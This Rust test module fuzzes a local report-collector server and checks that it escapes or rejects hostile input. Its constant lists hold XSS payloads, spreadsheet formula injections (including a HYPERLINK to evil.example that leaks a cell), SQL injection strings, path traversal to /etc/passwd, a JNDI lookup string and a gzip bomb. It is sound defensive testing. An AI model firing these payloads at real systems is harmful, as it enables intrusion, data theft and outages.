//! Proof suite part: hostile input. A real `sverka-collector serve` gets
//! [`Budget::hostile_requests`] generated requests (fastrand with a printed seed, so a
//! run repeats) spread over every route of [`super::isolation::ROUTES`]: malformed,
//! truncated and wrongly typed JSON, deep nesting, huge arrays and strings, invalid
//! UTF-8, oversize bodies and gzip bombs, SQL injection, script and formula payloads,
//! path traversal and odd ids, forged and replayed host keys, session cookies and API
//! tokens, and forms posted without or with a wrong CSRF token.
//!
//! Counted: answers by class (2xx/3xx, 4xx, the rate limits' 429 apart, 5xx), the
//! collector dying or panicking, forged credentials or CSRF-less forms that were
//! accepted. Then valid reports full of script and formula payloads are accepted, an
//! administrator signs in and reads every page and every CSV and XLSX export: no
//! payload may reach HTML unescaped, and no CSV or XLSX cell may start with a formula
//! character. Headless Chromium finally opens the hostile PC's page: no script ran.

use anyhow::{Context, bail};
use std::collections::BTreeMap;
use std::io::Write as _;
use std::time::{Duration, Instant};

use super::isolation::web::{self, Answer, Session};
use super::isolation::{ROUTES, answer_text};
use super::{Budget, Figure, Part};
use crate::real_collector::Collector;

/// Script payloads: each sets `window.__pwned` or the title if it ever runs.
pub const SCRIPT_PAYLOADS: [&str; 4] = [
    "<script>window.__pwned=1;document.title='pwned'</script>",
    "<img src=x onerror=\"window.__pwned=2;document.title='pwned'\">",
    "\"><svg onload=window.__pwned=3>",
    "'><img src=x onerror=window.__pwned=4>",
];
/// What must never appear in HTML as it stands: an element made from a payload
/// (after breaking out of an attribute or not). A handler's name as escaped text is
/// harmless, and the dashboard's own markup has `"><svg` (its charts).
const RAW_HTML_MARKERS: [&str; 3] = ["<script>window.__pwned", "<img src=x", "<svg onload"];
/// Formula payloads, with every prefix a spreadsheet may run.
pub const FORMULA_PAYLOADS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];
const SQL_PAYLOADS: [&str; 6] = [
    "' OR '1'='1",
    "1; DROP TABLE hosts;--",
    "\" OR 1=1 --",
    "'); DELETE FROM reports; --",
    "1 UNION SELECT password_hash FROM users--",
    "%' AND 1=0 UNION SELECT NULL,NULL--",
];
const TRAVERSALS: [&str; 10] = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd",
    "..\\..\\windows\\win.ini",
    "%00",
    "1%00",
    "1/../2",
    "%252e%252e%252f",
    "1;DROP%20TABLE%20hosts",
];
const ODD_IDS: [&str; 10] = [
    "-1",
    "0",
    "99999999999999999999999",
    "9223372036854775807",
    "1e3",
    "0x10",
    "%20 1",
    "1'OR'1'='1",
    "NaN",
    "%E2%80%AE1",
];

/// What the run counted.
#[derive(Debug, Default)]
struct Tally {
    sent: u64,
    success: u64,
    client_errors: u64,
    rate_limited: u64,
    server_errors: u64,
    /// Requests the collector closed before answering (an oversize body cut off).
    closed: u64,
    forged_accepted: u64,
    csrf_accepted: u64,
    per_route: BTreeMap<(&'static str, &'static str), u64>,
    five_hundreds: Vec<String>,
    accepted: Vec<String>,
}

impl Tally {
    fn record(
        &mut self,
        route: (&'static str, &'static str),
        what: &str,
        answer: &anyhow::Result<Answer>,
    ) {
        self.sent += 1;
        *self.per_route.entry(route).or_default() += 1;
        match answer {
            Ok(answer) => match answer.status {
                429 => self.rate_limited += 1,
                400..=499 => self.client_errors += 1,
                500..=599 => {
                    self.server_errors += 1;
                    if self.five_hundreds.len() < 20 {
                        let text: String = answer.text().chars().take(200).collect();
                        eprintln!("hostile: {} for {what}: {text}", answer.status);
                        self.five_hundreds
                            .push(format!("{} {what}: {text}", answer.status));
                    }
                }
                _ => self.success += 1,
            },
            Err(_) => self.closed += 1,
        }
    }
}

/// A form or credential was taken: a success, or a redirect anywhere but sign-in.
fn accepted(answer: &anyhow::Result<Answer>) -> bool {
    match answer {
        Ok(answer) => {
            (200..300).contains(&answer.status)
                || (300..400).contains(&answer.status) && !answer.location.starts_with("/login")
        }
        Err(_) => false,
    }
}

/// The collector and everything the run set up.
struct Stage {
    collector: Collector,
    region: i64,
    school: i64,
    secret: String,
    /// Keys of ordinary hosts, used in turn (each has its own rate limit budget).
    keys: Vec<(i64, String)>,
    admin: Session,
    admin_csrf: String,
    /// Cookies of a session that signed out (replayed cookies must not work).
    logged_out_cookie: String,
    revoked_token: String,
    valid_token: String,
    valid_report: Vec<u8>,
    gzip_bomb: Vec<u8>,
}

pub fn run(budget: &Budget) -> anyhow::Result<Vec<Figure>> {
    let seed = std::env::var("SVERKA_PROOF_SEED")
        .ok()
        .and_then(|text| text.parse().ok())
        .unwrap_or_else(|| fastrand::u64(..));
    eprintln!("hostile: seed {seed} (SVERKA_PROOF_SEED={seed} repeats it)");
    let mut rng = fastrand::Rng::with_seed(seed);
    let started = Instant::now();
    let mut stage = set_up(budget)?;
    let mut tally = Tally::default();
    // Valid reports full of payloads first, and the browser on them (it signs in,
    // which the sign-in attacks below would otherwise throttle).
    let hostile_hosts = report_hostile_hosts(&mut stage)?;
    let browser_ran_script = browser_check(&stage, hostile_hosts.first().map(|host| host.0))?;

    // Routes by weight: the agent API and forms take more of the budget.
    let mut weighted: Vec<(&'static str, &'static str)> = Vec::new();
    for (method, path) in ROUTES {
        let weight = match *path {
            "/api/v1/reports" => 30,
            "/api/v1/enroll" => 12,
            "/login" if *method == "POST" => 4,
            _ => 2,
        };
        for _ in 0..weight {
            weighted.push((method, path));
        }
    }
    // Every route first, then weighted at random.
    let mut order: Vec<(&'static str, &'static str)> = ROUTES.to_vec();
    while order.len() < budget.hostile_requests {
        order.push(weighted[rng.usize(..weighted.len())]);
    }
    for (index, route) in order.iter().enumerate() {
        hostile_request(&mut rng, &mut stage, *route, index, &mut tally)?;
    }
    let run_seconds = started.elapsed().as_secs_f64();

    // Did it survive?
    let alive = Session::new(&stage.collector.url())
        .get("/healthz")
        .is_ok_and(|answer| answer.status == 200 && answer.body == b"ok");
    let log = stage.collector.log();
    let panics = log.matches("panicked").count() as u64;
    let crashes = u64::from(!alive) + panics;
    let tables_intact = database_intact(&stage.collector);

    // Every page and export read back, with what the run added (organizations,
    // users, tokens, catalog entries and reports made of payloads).
    let neutral = check_pages_and_exports(&mut stage, &hostile_hosts)?;

    let covered = ROUTES
        .iter()
        .filter(|(method, path)| tally.per_route.get(&(*method, *path)).copied().unwrap_or(0) > 0)
        .count();
    let mut figures = vec![
        Figure::at_least(
            Part::Hostile,
            format!("generated requests (seed {seed}, {run_seconds:.0} s)"),
            tally.sent,
            budget.hostile_requests as u64,
        ),
        Figure::checked(
            Part::Hostile,
            "routes covered (agent API, dashboard, JSON API)",
            format!("{covered} / {}", ROUTES.len()),
            "all",
            covered == ROUTES.len(),
        ),
        Figure::count(Part::Hostile, "answered 2xx/3xx", tally.success),
        Figure::count(
            Part::Hostile,
            "answered 4xx (rate limits apart)",
            tally.client_errors,
        ),
        Figure::count(
            Part::Hostile,
            "answered 429 (per-host and sign-in limits)",
            tally.rate_limited,
        ),
        Figure::count(
            Part::Hostile,
            "oversize bodies cut off by the collector",
            tally.closed,
        ),
        Figure::at_most(Part::Hostile, "answered 5xx", tally.server_errors, 0),
        Figure::at_most(
            Part::Hostile,
            "crashes (collector died or panicked)",
            crashes,
            0,
        ),
        Figure::checked(
            Part::Hostile,
            "database intact after SQL injection",
            if tables_intact { "yes" } else { "no" },
            "yes",
            tables_intact,
        ),
        Figure::at_most(
            Part::Hostile,
            "forged or replayed keys, cookies, tokens accepted",
            tally.forged_accepted,
            0,
        ),
        Figure::at_most(
            Part::Hostile,
            "forms accepted without or with a wrong CSRF token",
            tally.csrf_accepted,
            0,
        ),
        Figure::at_least(
            Part::Hostile,
            "payloads shown (escaped) on pages and in exports",
            neutral.payloads_seen,
            1,
        ),
        Figure::count(
            Part::Hostile,
            "pages and exports read back",
            format!(
                "{} pages, {} CSV, {} XLSX",
                neutral.pages, neutral.csv, neutral.xlsx
            ),
        ),
        Figure::at_most(
            Part::Hostile,
            "payloads unneutralized in HTML, CSV or XLSX",
            neutral.unneutralized.len() as u64,
            0,
        ),
        Figure::checked(
            Part::Hostile,
            "script ran in Chromium on the hostile PC's page",
            if browser_ran_script { "yes" } else { "no" },
            "no",
            !browser_ran_script,
        ),
    ];
    for text in &neutral.unneutralized {
        eprintln!("hostile: UNNEUTRALIZED {text}");
    }
    for text in &tally.accepted {
        eprintln!("hostile: ACCEPTED {text}");
    }
    if crashes > 0 || tally.server_errors > 0 {
        let path = budget.artifacts.join("hostile-collector.log");
        std::fs::write(&path, &log)?;
        figures.push(Figure::count(
            Part::Hostile,
            "collector log",
            path.display(),
        ));
    }
    Ok(figures)
}

fn set_up(budget: &Budget) -> anyhow::Result<Stage> {
    let collector = Collector::start();
    let base = collector.url();
    let region = collector.add_org("Hostile region", "region", None);
    let school = collector.add_org("Hostile school", "school", Some(region));
    let secret = collector.secret(school);
    let password = web::password_file()?;
    web::add_user(&collector, &password, "admin", "administrator", None)?;
    web::add_user(
        &collector,
        &password,
        "leaver",
        "school_admin",
        Some(school),
    )?;
    let http = web::http_client();
    // Enough hosts that the per-host rate limit leaves most reports to the parsers.
    let host_count = (budget.hostile_requests / 100).clamp(6, 64);
    let mut keys = Vec::new();
    let valid_inventory = [web::package(
        "telegram-desktop",
        "4.6.5",
        "/var/lib/dpkg/status",
        None,
    )];
    for index in 0..host_count {
        let hostname = format!("lab-pc-{index:02}");
        let host = web::enroll(
            &http,
            &base,
            &secret,
            &format!("hostile-machine-{index:04}"),
            &hostname,
        )?;
        keys.push((host.id, host.key));
    }
    let valid_report = web::report_body("lab-pc-00", "proof", &valid_inventory, vec![]);
    let mut admin = Session::login(&base, "admin")?;
    let admin_csrf = admin.csrf()?;
    let revoked_token = admin.create_token("to-revoke")?;
    let valid_token = admin.create_token("kept")?;
    let revoked_id = revoked_token
        .trim_start_matches("sverka_pat_")
        .split('.')
        .next()
        .unwrap_or("0")
        .to_string();
    let revoke = admin.post_form(
        &format!("/tokens/{revoked_id}/revoke"),
        &[("csrf", &admin_csrf)],
    )?;
    if !(300..400).contains(&revoke.status) && revoke.status != 200 {
        bail!("could not revoke a token: {}", revoke.status);
    }
    let mut leaver = Session::login(&base, "leaver")?;
    let leaver_csrf = leaver.csrf()?;
    let logged_out_cookie = leaver.cookie_header();
    leaver.post_form("/logout", &[("csrf", &leaver_csrf)])?;
    Ok(Stage {
        collector,
        region,
        school,
        secret,
        keys,
        admin,
        admin_csrf,
        logged_out_cookie,
        revoked_token,
        valid_token,
        valid_report,
        gzip_bomb: gzip_zeros(64 * 1024 * 1024),
    })
}

fn gzip_zeros(size: usize) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let chunk = vec![0u8; 1024 * 1024];
    for _ in 0..size / chunk.len() {
        let _ = encoder.write_all(&chunk);
    }
    encoder.finish().unwrap_or_default()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let _ = encoder.write_all(bytes);
    encoder.finish().unwrap_or_default()
}

/// A hostile string of every kind.
fn hostile_string(rng: &mut fastrand::Rng) -> String {
    match rng.u8(..7) {
        0 => SCRIPT_PAYLOADS[rng.usize(..SCRIPT_PAYLOADS.len())].to_string(),
        1 => FORMULA_PAYLOADS[rng.usize(..FORMULA_PAYLOADS.len())].to_string(),
        2 => SQL_PAYLOADS[rng.usize(..SQL_PAYLOADS.len())].to_string(),
        3 => TRAVERSALS[rng.usize(..TRAVERSALS.len())].to_string(),
        4 => "A".repeat(rng.usize(256..20_000)),
        5 => "\u{202e}\u{0}\u{feff}😀 Ω \\u0000 %s%n {{7*7}} ${jndi:ldap://x}".to_string(),
        _ => (0..rng.usize(0..64)).map(|_| rng.char(..)).collect(),
    }
}

/// A JSON body broken in one of many ways, starting from a valid one.
fn broken_json(rng: &mut fastrand::Rng, valid: &[u8]) -> Vec<u8> {
    match rng.u8(..11) {
        0 => valid[..rng.usize(..valid.len().max(1))].to_vec(),
        1 => b"{\"report_id\": ".to_vec(),
        2 => {
            let depth = rng.usize(100..100_000);
            let mut body = "[".repeat(depth).into_bytes();
            body.extend("]".repeat(depth).into_bytes());
            body
        }
        3 => {
            let depth = rng.usize(20..5_000);
            let mut body = Vec::new();
            for _ in 0..depth {
                body.extend(b"{\"a\":");
            }
            body.extend(b"1");
            body.extend("}".repeat(depth).into_bytes());
            body
        }
        4 => {
            let mut body = b"{\"report_id\":\"".to_vec();
            body.extend([0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80]);
            body.extend(b"\"}");
            body
        }
        5 => {
            let mut body = valid.to_vec();
            for _ in 0..rng.usize(1..8) {
                let at = rng.usize(..body.len().max(1));
                if at < body.len() {
                    body[at] = rng.u8(..);
                }
            }
            body
        }
        6 => wrong_types(rng, valid),
        7 => {
            // A huge array of small items.
            let items = rng.usize(50_001..120_000);
            let mut body = b"{\"report_id\":\"x\",\"evidence\":[".to_vec();
            for index in 0..items {
                if index > 0 {
                    body.push(b',');
                }
                body.extend(b"{}");
            }
            body.extend(b"]}");
            body
        }
        8 => {
            // A huge string.
            let mut value: serde_json::Value = serde_json::from_slice(valid).unwrap_or_default();
            value["scan"]["host"]["hostname"] =
                serde_json::Value::String("x".repeat(rng.usize(9_000..2_000_000)));
            serde_json::to_vec(&value).unwrap_or_default()
        }
        9 => b"null".to_vec(),
        _ => (0..rng.usize(0..2048)).map(|_| rng.u8(..)).collect(),
    }
}

/// A valid JSON body with one value replaced by another type.
fn wrong_types(rng: &mut fastrand::Rng, valid: &[u8]) -> Vec<u8> {
    let Ok(mut value) = serde_json::from_slice::<serde_json::Value>(valid) else {
        return valid.to_vec();
    };
    let mut paths = Vec::new();
    collect_paths(&value, &mut Vec::new(), &mut paths);
    if paths.is_empty() {
        return valid.to_vec();
    }
    let path = &paths[rng.usize(..paths.len())];
    let replacement = match rng.u8(..7) {
        0 => serde_json::json!(null),
        1 => serde_json::json!(-1),
        2 => serde_json::json!(1.5e308),
        3 => serde_json::json!(true),
        4 => serde_json::json!([]),
        5 => serde_json::json!({"$ne": 1}),
        _ => serde_json::json!(hostile_string(rng)),
    };
    let mut target = &mut value;
    for key in path {
        target = match key {
            PathKey::Field(name) => &mut target[name.as_str()],
            PathKey::Index(index) => &mut target[*index],
        };
    }
    *target = replacement;
    serde_json::to_vec(&value).unwrap_or_default()
}

enum PathKey {
    Field(String),
    Index(usize),
}

fn collect_paths(value: &serde_json::Value, at: &mut Vec<PathKey>, out: &mut Vec<Vec<PathKey>>) {
    let copy = |at: &Vec<PathKey>| {
        at.iter()
            .map(|key| match key {
                PathKey::Field(name) => PathKey::Field(name.clone()),
                PathKey::Index(index) => PathKey::Index(*index),
            })
            .collect::<Vec<_>>()
    };
    if !at.is_empty() {
        out.push(copy(at));
    }
    match value {
        serde_json::Value::Object(map) => {
            for (key, child) in map {
                at.push(PathKey::Field(key.clone()));
                collect_paths(child, at, out);
                at.pop();
            }
        }
        serde_json::Value::Array(items) => {
            for (index, child) in items.iter().enumerate().take(4) {
                at.push(PathKey::Index(index));
                collect_paths(child, at, out);
                at.pop();
            }
        }
        _ => {}
    }
}

/// A forged credential of every kind: random, injected, a real host's id with a
/// wrong secret.
fn forged_key(rng: &mut fastrand::Rng, stage: &Stage) -> String {
    match rng.u8(..6) {
        0 => format!("{}.{}", stage.keys[0].0, "0".repeat(64)),
        1 => SQL_PAYLOADS[rng.usize(..SQL_PAYLOADS.len())].to_string(),
        2 => format!("{}.{}", i64::MAX, "f".repeat(64)),
        3 => format!("-1.{}", "a".repeat(64)),
        4 => {
            // A real key with its last character changed.
            let mut key = stage.keys[rng.usize(..stage.keys.len())].1.clone();
            let last = if key.ends_with('0') { '1' } else { '0' };
            key.pop();
            key.push(last);
            key
        }
        _ => "x".repeat(rng.usize(0..5000)),
    }
}

fn forged_cookie(rng: &mut fastrand::Rng, stage: &Stage) -> String {
    match rng.u8(..6) {
        0 => stage.logged_out_cookie.clone(),
        1 => format!("sverka_session={}", "0".repeat(64)),
        2 => format!(
            "sverka_session={}",
            SQL_PAYLOADS[rng.usize(..SQL_PAYLOADS.len())]
        ),
        3 => format!("sverka_session={}", "f".repeat(rng.usize(0..9000))),
        4 => "sverka_session=; sverka_session=../../etc/passwd".to_string(),
        _ => format!("sverka_session={:064x}", rng.u128(..)),
    }
}

fn forged_token(rng: &mut fastrand::Rng, stage: &Stage) -> String {
    match rng.u8(..4) {
        0 => stage.revoked_token.clone(),
        1 => format!("sverka_pat_1.{}", "0".repeat(64)),
        2 => format!(
            "sverka_pat_{}",
            SQL_PAYLOADS[rng.usize(..SQL_PAYLOADS.len())]
        ),
        _ => {
            let mut token = stage.valid_token.clone();
            token.pop();
            token.push('z');
            token
        }
    }
}

/// A path for a route template with hostile or real ids.
fn concrete_path(rng: &mut fastrand::Rng, stage: &Stage, template: &str) -> String {
    let id = |rng: &mut fastrand::Rng| -> String {
        match rng.u8(..4) {
            0 => TRAVERSALS[rng.usize(..TRAVERSALS.len())].to_string(),
            1 => ODD_IDS[rng.usize(..ODD_IDS.len())].to_string(),
            2 => stage.region.to_string(),
            _ => stage.keys[rng.usize(..stage.keys.len())].0.to_string(),
        }
    };
    let mut path = template
        .replace("{id}", &id(rng))
        .replace("{secret}", &id(rng));
    let formats = ["csv", "xlsx", "json", "..%2f..%2fetc", "CSV", "xlsx%00.csv"];
    path = path.replace("{format}", formats[rng.usize(..formats.len())]);
    let tables = [
        "violations",
        "silent",
        "clean",
        "findings",
        "inventory",
        "timeline",
        "../users",
        "%3Cscript%3E",
    ];
    path = path.replace("{table}", tables[rng.usize(..tables.len())]);
    if rng.u8(..3) == 0 {
        let queries = [
            "?lang=%3Cscript%3Ealert(1)%3C/script%3E",
            "?sort=1%27%20OR%20%271%27=%271",
            "?page=-1&page=99999999999999999999",
            "?week=2026-W99",
            "?back=//evil.example/",
            "?%ff%fe=%c3%28",
        ];
        path.push_str(queries[rng.usize(..queries.len())]);
    }
    path
}

/// A hostile form body for a route.
fn form_body(rng: &mut fastrand::Rng, template: &str, csrf: Option<&str>) -> Vec<u8> {
    let mut fields: Vec<(String, String)> = Vec::new();
    if let Some(csrf) = csrf {
        fields.push(("csrf".into(), csrf.into()));
    }
    let names: &[&str] = match template {
        "/login" => &["login", "password", "lang"],
        "/language" => &["language", "back"],
        "/org/{id}/children" => &["name", "kind", "expected_pcs"],
        "/host/{id}/handled" => &["app_id", "note"],
        "/org/{id}/secrets" => &["days"],
        "/catalog" => &["overrides"],
        "/catalog/entry" => &["id", "name", "status", "signature_kind", "signature"],
        "/users" => &["login", "password", "role", "organization_id"],
        "/tokens" => &["name"],
        _ => &["x"],
    };
    for name in names {
        fields.push((name.to_string(), hostile_string(rng)));
    }
    if template == "/catalog" && rng.bool() {
        fields.push((
            "overrides".into(),
            format!(
                "[[app]]\nid = \"x{}\"\nname = \"{}\"\nstatus = \"banned\"\n[app.signatures]\npackages = [\"{}\"]\n",
                rng.u32(..),
                SCRIPT_PAYLOADS[0].replace('"', "'"),
                "re:(a+)+$"
            ),
        ));
    }
    let mut body: Vec<u8> = fields
        .iter()
        .map(|(name, value)| format!("{}={}", web::form_escape(name), web::form_escape(value)))
        .collect::<Vec<_>>()
        .join("&")
        .into_bytes();
    if rng.u8(..8) == 0 {
        body.extend(b"&%ff%fe=%c3%28&=&&a");
    }
    body
}

/// Sends one generated request for `route`.
fn hostile_request(
    rng: &mut fastrand::Rng,
    stage: &mut Stage,
    route: (&'static str, &'static str),
    index: usize,
    tally: &mut Tally,
) -> anyhow::Result<()> {
    let (method, template) = route;
    let base = stage.collector.url();
    let mut anonymous = if template == "/login" {
        // Sign-in attempts come from many loopback addresses, so that the per-address
        // throttle leaves most of them to the form's parser.
        Session::from_address(
            &base,
            std::net::IpAddr::from([127, 0, 0, 2 + (index % 250) as u8]),
        )
    } else {
        Session::new(&base)
    };
    match template {
        "/api/v1/enroll" => {
            let valid = serde_json::json!({
                "secret": stage.secret, "machine_id": format!("enroll-{index}"),
                "hostname": "pc", "os_id": "astra", "os_name": "Astra", "agent_version": "1"
            });
            let valid = serde_json::to_vec(&valid).unwrap_or_default();
            let (body, encoding) = match rng.u8(..6) {
                0 => {
                    // Valid, with a hostile string in a field (a new host).
                    let mut value: serde_json::Value =
                        serde_json::from_slice(&valid).unwrap_or_default();
                    let fields = [
                        "hostname",
                        "machine_id",
                        "os_name",
                        "agent_version",
                        "os_id",
                        "secret",
                    ];
                    value[fields[rng.usize(..fields.len())]] =
                        serde_json::json!(hostile_string(rng));
                    (serde_json::to_vec(&value).unwrap_or_default(), None)
                }
                1 => (stage.gzip_bomb.clone(), Some("gzip")),
                2 => (gzip(&broken_json(rng, &valid)), Some("gzip")),
                3 => (
                    valid.clone(),
                    Some(["br", "deflate", "gzip, gzip", "identity;q=0"][rng.usize(..4)]),
                ),
                4 => (vec![b'{'; rng.usize(65 * 1024..200 * 1024)], None),
                _ => (broken_json(rng, &valid), None),
            };
            let mut headers = vec![("content-type", "application/json".to_string())];
            if let Some(encoding) = encoding {
                headers.push(("content-encoding", encoding.to_string()));
            }
            let answer = anonymous.send(method, template, &headers, Some(body));
            tally.record(route, "enroll", &answer);
        }
        "/api/v1/reports" => {
            let (host_id, key) = stage.keys[index % stage.keys.len()].clone();
            let forged = rng.u8(..6) == 0;
            let key = if forged { forged_key(rng, stage) } else { key };
            let mut headers = vec![
                ("authorization", format!("Bearer {key}")),
                ("content-type", "application/json".to_string()),
            ];
            let body = match rng.u8(..9) {
                0 => {
                    headers.push(("content-encoding", "gzip".to_string()));
                    stage.gzip_bomb.clone()
                }
                1 if index.is_multiple_of(25) => vec![b' '; 9 * 1024 * 1024],
                2 => {
                    headers.push(("content-encoding", "gzip".to_string()));
                    let mut bytes = gzip(&stage.valid_report);
                    bytes.truncate(bytes.len() / 2);
                    bytes
                }
                3 => {
                    // Valid with hostile strings: accepted, shown later.
                    hostile_report(rng, &format!("lab-pc-{host_id}"))
                }
                4 => {
                    // Replayed: the same report again (must be acknowledged once).
                    stage.valid_report.clone()
                }
                5 => {
                    // Another machine's report with this key.
                    let mut value: serde_json::Value =
                        serde_json::from_slice(&stage.valid_report).unwrap_or_default();
                    value["scan"]["host"]["machine_id"] = serde_json::json!("someone-else");
                    value["report_id"] = serde_json::json!(web::uuid_v4_like());
                    serde_json::to_vec(&value).unwrap_or_default()
                }
                _ => broken_json(rng, &stage.valid_report),
            };
            let answer = anonymous.send(method, template, &headers, Some(body));
            if forged && accepted(&answer) {
                tally.forged_accepted += 1;
                tally
                    .accepted
                    .push(format!("a report with the forged key {key:?}"));
            }
            tally.record(route, "report", &answer);
        }
        "/api/v1/catalog" | "/healthz" => {
            let key = if rng.bool() {
                forged_key(rng, stage)
            } else {
                stage.keys[0].1.clone()
            };
            let headers = vec![
                ("authorization", format!("Bearer {key}")),
                (
                    "if-none-match",
                    hostile_string(rng).replace(['\r', '\n', '\0'], ""),
                ),
            ];
            let answer = anonymous.send(method, template, &headers, None);
            if template == "/api/v1/catalog" && key != stage.keys[0].1 && accepted(&answer) {
                tally.forged_accepted += 1;
                tally
                    .accepted
                    .push(format!("the catalog with the forged key {key:?}"));
            }
            tally.record(route, template, &answer);
        }
        _ if template.starts_with("/api/v1/dashboard/") => {
            let path = concrete_path(rng, stage, template);
            let (token, forged) = if rng.u8(..3) == 0 {
                (stage.valid_token.clone(), false)
            } else {
                (forged_token(rng, stage), true)
            };
            let answer = anonymous.send(
                method,
                &path,
                &[("authorization", format!("Bearer {token}"))],
                None,
            );
            if forged && accepted(&answer) {
                tally.forged_accepted += 1;
                tally
                    .accepted
                    .push(format!("{path} with the forged token {token:?}"));
            }
            tally.record(route, &path, &answer);
        }
        _ => {
            let path = if template.contains('{') {
                concrete_path(rng, stage, template)
            } else {
                template.to_string()
            };
            // Who asks: the administrator, nobody, or a forged or replayed cookie.
            let who = rng.u8(..3);
            let cookie = match who {
                0 => stage.admin.cookie_header(),
                1 => String::new(),
                _ => forged_cookie(rng, stage),
            };
            let mut headers = vec![("cookie", cookie)];
            let answer = if method == "POST" {
                headers.push((
                    "content-type",
                    "application/x-www-form-urlencoded".to_string(),
                ));
                // The CSRF token: missing, wrong, or (for the administrator on forms that
                // change nothing dangerous) right, with hostile values.
                let safe = matches!(
                    template,
                    "/org/{id}/children"
                        | "/host/{id}/handled"
                        | "/org/{id}/secrets"
                        | "/catalog"
                        | "/catalog/entry"
                        | "/users"
                        | "/tokens"
                        | "/language"
                );
                let csrf_choice = rng.u8(..3);
                let csrf = match csrf_choice {
                    0 => None,
                    1 => Some(format!("{:064x}", rng.u128(..))),
                    _ if template == "/login" => {
                        let page = anonymous
                            .get("/login")
                            .ok()
                            .map(|page| page.text())
                            .unwrap_or_default();
                        web::csrf_of(&page)
                    }
                    _ if who == 0 && safe => Some(stage.admin_csrf.clone()),
                    _ => Some(String::new()),
                };
                let with_valid_token =
                    csrf_choice == 2 && (template == "/login" || who == 0 && safe);
                let body = form_body(rng, template, csrf.as_deref());
                if template == "/login" {
                    // The login form's own CSRF cookie comes with the page.
                    let cookie = anonymous.cookie_header();
                    headers[0].1 = cookie;
                }
                let answer = anonymous.send(method, &path, &headers, Some(body));
                if !with_valid_token && accepted(&answer) {
                    tally.csrf_accepted += 1;
                    tally
                        .accepted
                        .push(format!("POST {path} without a valid CSRF token"));
                }
                if who == 2 && template != "/login" && accepted(&answer) {
                    tally.forged_accepted += 1;
                    tally
                        .accepted
                        .push(format!("POST {path} with a forged cookie"));
                }
                answer
            } else {
                let answer = anonymous.send(method, &path, &headers, None);
                let public = matches!(template, "/login" | "/static/app.css" | "/static/app.js");
                if who == 2 && !public && accepted(&answer) {
                    tally.forged_accepted += 1;
                    tally
                        .accepted
                        .push(format!("GET {path} with a forged cookie"));
                }
                answer
            };
            tally.record(route, &format!("{method} {path}"), &answer);
        }
    }
    Ok(())
}

/// A valid report whose every agent-supplied string is a payload.
fn hostile_report(rng: &mut fastrand::Rng, hostname: &str) -> Vec<u8> {
    let mut payload = || {
        let all: Vec<&str> = SCRIPT_PAYLOADS
            .iter()
            .chain(FORMULA_PAYLOADS.iter())
            .chain(SQL_PAYLOADS.iter())
            .copied()
            .collect();
        all[rng.usize(..all.len())].to_string()
    };
    hostile_report_with(hostname, &mut payload)
}

fn hostile_report_with(hostname: &str, payload: &mut dyn FnMut() -> String) -> Vec<u8> {
    use sverka_shared::{Observation, Observed, Scope, Strength};
    let inventory = vec![
        web::package("telegram-desktop", &payload(), &payload(), Some(&payload())),
        web::package(&payload(), &payload(), &payload(), None),
        Observation {
            observed: Observed::DesktopEntry {
                file_name: format!("{}.desktop", payload()),
                name: Some(payload()),
                program: Some(payload()),
                wm_class: Some(payload()),
            },
            path: Some(payload()),
            user: Some(payload()),
            scope: Scope::User,
            strength: Strength::Installed,
        },
        Observation {
            observed: Observed::UninstallEntry {
                key_name: payload(),
                display_name: format!("Telegram Desktop {}", payload()),
                display_version: Some(payload()),
                publisher: Some(payload()),
                upgrade_code: Some(payload()),
                hive: payload(),
            },
            path: Some(payload()),
            user: None,
            scope: Scope::Machine,
            strength: Strength::Installed,
        },
    ];
    let evidence = vec![Observation {
        observed: Observed::Process {
            pid: 4242,
            name: "Telegram".into(),
            executable: Some(payload()),
            version_info: None,
        },
        path: Some(payload()),
        user: Some(payload()),
        scope: Scope::User,
        strength: Strength::Running,
    }];
    web::report_body(hostname, &payload(), &inventory, evidence)
}

/// Hosts named after each payload, with reports full of payloads: `(host id, name)`.
fn report_hostile_hosts(stage: &mut Stage) -> anyhow::Result<Vec<(i64, String)>> {
    let http = web::http_client();
    let base = stage.collector.url();
    let mut hosts = Vec::new();
    let names: Vec<&str> = SCRIPT_PAYLOADS
        .iter()
        .chain(FORMULA_PAYLOADS.iter())
        .copied()
        .collect();
    for (index, name) in names.iter().enumerate() {
        // Host names with control characters are refused at enrollment (a 4xx); the
        // payload then goes in a plain-named host's other strings.
        let host = match web::enroll(
            &http,
            &base,
            &stage.secret,
            &format!("payload-machine-{index}"),
            name,
        ) {
            Ok(host) => host,
            Err(_) => web::enroll(
                &http,
                &base,
                &stage.secret,
                &format!("payload-machine-{index}"),
                &format!("payload-pc-{index}"),
            )?,
        };
        let mut turn = index;
        let all: Vec<&str> = SCRIPT_PAYLOADS
            .iter()
            .chain(FORMULA_PAYLOADS.iter())
            .copied()
            .collect();
        let mut payload = || {
            turn += 1;
            all[turn % all.len()].to_string()
        };
        let body = hostile_report_with(&host.hostname, &mut payload);
        let (status, text) = web::send_report(&http, &base, &host.key, body)?;
        if status != 200 {
            bail!("a valid report full of payloads was refused: {status} {text}");
        }
        hosts.push((host.id, host.hostname.clone()));
    }
    Ok(hosts)
}

#[derive(Debug, Default)]
struct Neutral {
    pages: u64,
    csv: u64,
    xlsx: u64,
    payloads_seen: u64,
    unneutralized: Vec<String>,
}

fn formula_start(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A cell that is a plain number (a negative count is no formula).
fn is_number(cell: &str) -> bool {
    cell.replace(',', ".").trim().parse::<f64>().is_ok()
}

fn check_cell(neutral: &mut Neutral, source: &str, cell: &str) {
    if cell.contains("cmd|") || cell.contains("HYPERLINK") || cell.contains("__pwned") {
        neutral.payloads_seen += 1;
    }
    // A spreadsheet, or an importer that trims cells, may skip leading blanks: the
    // first visible character counts.
    if formula_start(cell.trim_start()) && !is_number(cell) {
        neutral
            .unneutralized
            .push(format!("{source}: cell {cell:?}"));
    }
}

